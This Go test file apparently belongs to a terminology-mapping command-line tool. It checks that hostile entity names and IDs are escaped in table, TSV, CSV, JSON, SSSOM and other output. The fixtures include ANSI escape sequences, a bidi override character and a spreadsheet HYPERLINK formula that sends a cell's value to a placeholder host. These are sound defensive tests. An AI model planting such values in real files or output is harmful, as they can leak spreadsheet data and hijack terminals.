package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/normlet/normlet/core/pack"
	"github.com/normlet/normlet/tools/normlet/answer"
	"github.com/normlet/normlet/train/assemble"
	"github.com/normlet/normlet/train/data"
)

// The names of hostilePack: what a terminal runs, what breaks a row, what a spreadsheet calculates.
const (
	terminalName = "\x1b[31mred\u202e\u009b2J\tx\ny\x7f"
	terminalID   = "=1+1\x1b[0m"
	formulaName  = `=HYPERLINK("http://x?"&A1,"y")`
	brokenID     = "E:4\nE:5\t6"
)

// hostilePack returns a pack whose entities are found by the names first to fourth. build refuses tabs and line ends,
// so these are put in afterwards.
func hostilePack(t *testing.T) string {
	t.Helper()
	const tab, end = "\x01", "\x02"
	without, with := strings.NewReplacer("\t", tab, "\n", end), strings.NewReplacer(tab, "\t", end, "\n")
	names := func(texts ...string) (list []data.Name) {
		for i, text := range texts {
			list = append(list, data.Name{Text: without.Replace(text), Kind: []data.Kind{pack.KindPrimary, pack.KindExact}[min(i, 1)]})
		}
		return list
	}
	terms := &data.Terminology{Entities: []data.Entity{
		{ID: terminalID, Namespace: "ns\x1b[32m", Names: names(terminalName, "first", "both")},
		{ID: "E:2", Namespace: "ns", Names: names(formulaName, "second")},
		{ID: "3", Namespace: "ns" + end + "x: y", Names: names("-5", "third")},
		{ID: without.Replace(brokenID), Namespace: "ns", Names: names("(+)-catechin", "fourth", "both")},
	}}
	c, _, err := assemble.Run(context.Background(), assemble.Recipe{Terminology: terms, Encoder: tinyWeights(), Method: "rp", Bits: 64, Meta: []pack.Pair{{Key: "name", Value: "n\x1b[31m\u202e"}}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	all := func(s *pack.Strings) *pack.Strings {
		var list []string
		for _, text := range s.Range(0, s.Len()) {
			list = append(list, with.Replace(string(text)))
		}
		return pack.NewStrings(list)
	}
	c.IDs, c.Names = all(c.IDs), all(c.Names)
	for i, ns := range c.Namespaces {
		c.Namespaces[i] = with.Replace(ns)
	}
	content, err := c.Append(nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	return string(content)
}

// acting returns the first character of an output, besides line ends and those that are allowed, which acts on a
// terminal, or -1.
func acting(output, allowed string) int {
	return strings.IndexFunc(output, func(r rune) bool {
		return r != '\n' && !strings.ContainsRune(allowed, r) && (unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) || r == unicode.ReplacementChar)
	})
}

func TestHostileNamesShown(t *testing.T) {
	f := newFixture(t)
	f.write("h.normpack", hostilePack(t))
	lookup := "lookup --pack DIR/h.normpack -k 1 first second both --format "
	for _, c := range []struct{ args, allowed, want string }{
		{lookup + "table", "", "first    =1+1\\x1b[0m  \\x1b[31mred\\u202e\\u009b2J x y\\x7f  first  "},
		{lookup + "table", "", "ambiguous: =1+1\\x1b[0m, E:4 E:5 6\n"},
		{lookup + "tsv", "\t", "\nfirst\t'=1+1\\x1b[0m\t\\x1b[31mred\\u202e\\u009b2J x y\\x7f\tfirst\texact\t"},
		{lookup + "tsv", "\t", "\nsecond\tE:2\t'" + formulaName + "\tsecond\t"},
		{lookup + "json", "", `"id":"=1+1\u001b[0m","name":"\u001b[31mred\u202e\u009b2J\tx\ny\u007f","matched":"first"`},
		{"inspect DIR/h.normpack", "", `name: "n\x1b[31m\u202e"`},
		{"inspect DIR/h.normpack", "", `namespaces  ["ns" "ns\nx: y" "ns\x1b[32m"]`},
	} {
		code, stdout, stderr := f.run(nil, strings.Fields(c.args)...)
		if code != exitDone || !strings.Contains(stdout, c.want) {
			t.Errorf("%s: status %d, stderr %q, stdout lacks %q:\n%q", c.args, code, stderr, c.want, stdout)
		}
		if at := acting(stdout, c.allowed); at >= 0 {
			t.Errorf("%s: writes %q", c.args, stdout[at:min(at+10, len(stdout))])
		}
	}
	code, stdout, _ := f.run(nil, strings.Fields(lookup+"tsv --raw-cells")...)
	if code != exitDone || !strings.Contains(stdout, "\nfirst\t=1+1\x1b[0m\t\x1b[31mred\u202e\u009b2J x y\x7f\tfirst\t") || !strings.Contains(stdout, "\t"+formulaName+"\t") {
		t.Errorf("--raw-cells: status %d, %q", code, stdout)
	}
	_, stdout, _ = f.run(nil, strings.Fields("lookup --pack DIR/h.normpack -k 1 first --format json")...)
	var a answer.Answer
	f.check(json.Unmarshal([]byte(stdout), &a))
	if len(a.Matches) != 1 || a.Matches[0].Name != terminalName {
		t.Errorf("JSON says %+v", a)
	}
}

// TestHostileErrors has messages that quote what a file or a command line holds.
func TestHostileErrors(t *testing.T) {
	f := newFixture(t)
	f.write("h.normpack", hostilePack(t))
	f.write("changes", "+\t"+terminalID+"\tfirst\n")
	f.write("bad.tsv", "A:1\tfine\nB\x1b[31m:1\tx\tnick\x1b[32m\n")
	for _, args := range [][]string{
		{"pack", "apply", "DIR/h.normpack", "DIR/changes", "--out", "DIR/x"},
		{"lookup", "--pack", "DIR/h.normpack", "--namespace", "\x1b[31m\u202e", "x"},
		{"verify", "DIR/\x1b[31m\u202enone"},
		{"map", "DIR/\x9b31m", "--column", "1", "--out", "DIR/x.csv"},
		{"build", "DIR/bad.tsv", "--out", "DIR/x"},
		{"\x1b[31m"},
	} {
		code, _, stderr := f.run(nil, args...)
		if code == exitDone || stderr == "" {
			t.Errorf("%q: status %d, stderr %q", args, code, stderr)
		}
		if at := acting(stderr, ""); at >= 0 {
			t.Errorf("%q: stderr %q", args, stderr)
		}
	}
}

// TestHostileRemarks reads terminology files of which some is left out, and named on standard error.
func TestHostileRemarks(t *testing.T) {
	f := newFixture(t)
	f.write("bad.tsv", "A:1\tfine\nB:1\tx\tnick\x1b[32m\u202e\nB\x1b[31m:1\n")
	f.write("twice.obo", "format-version: 1.2\n\n[Term]\nid: A:1\x1b[31m\nname: x\n\n[Term]\nid: A:2\nname: y\nalt_id: A:1\x1b[31m\n")
	for _, c := range []struct{ args, want string }{
		{"build DIR/bad.tsv --skip-bad", "left out: DIR/bad.tsv:2: "},
		{"build DIR/twice.obo", `such as A:1\x1b[31m`},
	} {
		code, _, stderr := f.run(nil, strings.Fields(c.args+" --encoder DIR/t.normenc --bits 64 --out DIR/b.normpack")...)
		if code != exitDone || !strings.Contains(stderr, c.want) {
			t.Errorf("%s: status %d, stderr lacks %q:\n%s", c.args, code, c.want, stderr)
		}
		if at := acting(stderr, ""); at >= 0 {
			t.Errorf("%s: stderr %q", c.args, stderr)
		}
	}
}

// hostileTable has cells of its user that a terminal and a spreadsheet run, too: they stay as they are.
const hostileTable = "n,m\n=A1,first\n\"\x1b[31m@x\",second\n-1+1,third\n+,fourth\n=B1,qqqqqq\n"

func TestHostileNamesMapped(t *testing.T) {
	f := newFixture(t)
	f.write("h.normpack", hostilePack(t))
	f.write("in.csv", hostileTable)
	f.write("in.tsv", strings.ReplaceAll(strings.ReplaceAll(hostileTable, ",", "\t"), `"`, ""))
	shown := `\x1b[31mred\u202e\u009b2J x y\x7f`
	guarded := [][]string{
		{"=A1", "first", `'=1+1\x1b[0m`, shown, "first"},
		{"\x1b[31m@x", "second", "E:2", "'" + formulaName, "second"},
		{"-1+1", "third", "3", "-5", "third"},
		{"+", "fourth", "E:4 E:5 6", "(+)-catechin", "fourth"},
		{"=B1", "qqqqqq", "-", "", ""},
	}
	raw := [][]string{
		{"=A1", "first", terminalID, terminalName, "first"},
		{"\x1b[31m@x", "second", "E:2", formulaName, "second"},
		guarded[2], {"+", "fourth", brokenID, "(+)-catechin", "fourth"}, guarded[4],
	}
	blanks := strings.NewReplacer("\t", " ", "\n", " ")
	for _, c := range []struct {
		format, flags string
		want          [][]string
	}{{"csv", "", guarded}, {"csv", " --raw-cells", raw}, {"tsv", "", guarded}, {"tsv", " --raw-cells", raw}} {
		args := "map DIR/in." + c.format + " --column m --pack DIR/h.normpack --nil-as - --min-p 0.5 --out -" + c.flags
		code, stdout, stderr := f.run(nil, strings.Fields(args)...)
		if code != exitDone {
			t.Fatalf("%s: status %d, stderr %q", args, code, stderr)
		}
		rows := readRows(t, c.format, stdout)
		if len(rows) != 1+len(c.want) {
			t.Fatalf("%s: %d rows:\n%s", args, len(rows), stdout)
		}
		for i, want := range c.want {
			if c.format == "tsv" {
				want = slices.Clone(want)
				for k := range want {
					want[k] = blanks.Replace(want[k])
				}
			}
			if got := rows[i+1]; len(got) != 10 || !slices.Equal(got[:5], want) {
				t.Errorf("%s: row %d %q, want %q", args, i+1, got, want)
			}
		}
		if physical := strings.Count(stdout, "\n"); c.flags == "" && physical != len(rows) {
			t.Errorf("%s: %d rows take %d lines", args, len(rows), physical)
		}
	}
}

func readRows(t *testing.T, format, text string) (rows [][]string) {
	t.Helper()
	if format == "csv" {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	for line := range strings.Lines(text) {
		rows = append(rows, strings.Split(strings.TrimSuffix(line, "\n"), "\t"))
	}
	return rows
}

// TestRawCellsResume: a run does not go on with the other kind of cells.
func TestRawCellsResume(t *testing.T) {
	f := newFixture(t)
	table := "n,gene\n" + strings.Repeat("1,FOXP2\n", 5000) // more than a block
	f.write("in.csv", table+"5,a\"b\n")
	args := "map DIR/in.csv --pack DIR/t.normpack --column gene --out DIR/out.csv"
	f.steps([]step{{args, exitFailed, "DIR/in.csv:5002: bare"}})
	f.write("in.csv", table)
	f.steps([]step{
		{args + " --resume --raw-cells", exitFailed, "other flags"},
		{args + " --resume", exitDone, "5000 rows"},
	})
}

// TestHostileNamesForPrograms maps to the formats that programs read: nothing acts, no line is added to a header or a
// document, and labels are those of the terminology.
func TestHostileNamesForPrograms(t *testing.T) {
	f := newFixture(t)
	f.write("h.normpack", hostilePack(t))
	f.write("in.csv", "m\nfirst\nsecond\nfourth\n")
	f.write("in.txt", "1|t|first and fourth\n1\t0\t5\tfirst\tGene\n1\t10\t16\tfourth\tGene\n")
	f.write("in.xml", "<collection><document><passage><text>first</text><annotation><text>first</text></annotation></passage></document></collection>")
	for _, c := range []struct{ args, allowed, want string }{
		{"map DIR/in.csv --column m --format sssom", "\t", "\nfirst\trdfs literal\tskos:exactMatch\tns\\x1b[32m:=1+1\\x1b[0m\t\\x1b[31mred\\u202e\\u009b2J x y\\x7f\t"},
		{"map DIR/in.csv --column m --format sssom", "\t", "\nsecond\trdfs literal\tskos:exactMatch\tE:2\t" + formulaName + "\t"},
		{"map DIR/in.csv --column m --format sssom", "\t", "\n#  \"ns\\\\x1b[32m\": \"https://bioregistry.io/ns\\\\x1b[32m:\"\n"},
		{"map DIR/in.csv --column m --format sssom", "\t", "\n#  \"ns x: y\": \"https://bioregistry.io/ns x: y:\"\n"},
		{"map DIR/in.txt --format pubtator", "\t", "1\t0\t5\tfirst\tGene\t=1+1\\x1b[0m\n1\t10\t16\tfourth\tGene\tE:4 E:5 6\n"},
		{"map DIR/in.xml --format bioc", "", `<infon key="identifier">=1+1\x1b[0m</infon>`},
	} {
		code, stdout, stderr := f.run(nil, strings.Fields(c.args+" --pack DIR/h.normpack --out -")...)
		if code != exitDone || !strings.Contains(stdout, c.want) {
			t.Errorf("%s: status %d, stderr %q, stdout lacks %q:\n%s", c.args, code, stderr, c.want, stdout)
		}
		if at := acting(stdout, c.allowed); at >= 0 {
			t.Errorf("%s: writes %q", c.args, stdout[at:min(at+10, len(stdout))])
		}
	}
	code, stdout, _ := f.run(nil, strings.Fields("map DIR/in.csv --column m --format jsonl --pack DIR/h.normpack --out - -k 1")...)
	if code != exitDone || strings.Count(stdout, "\n") != 3 || strings.ContainsAny(stdout, "\x1b\t") {
		t.Errorf("jsonl: status %d, %q", code, stdout)
	}
}
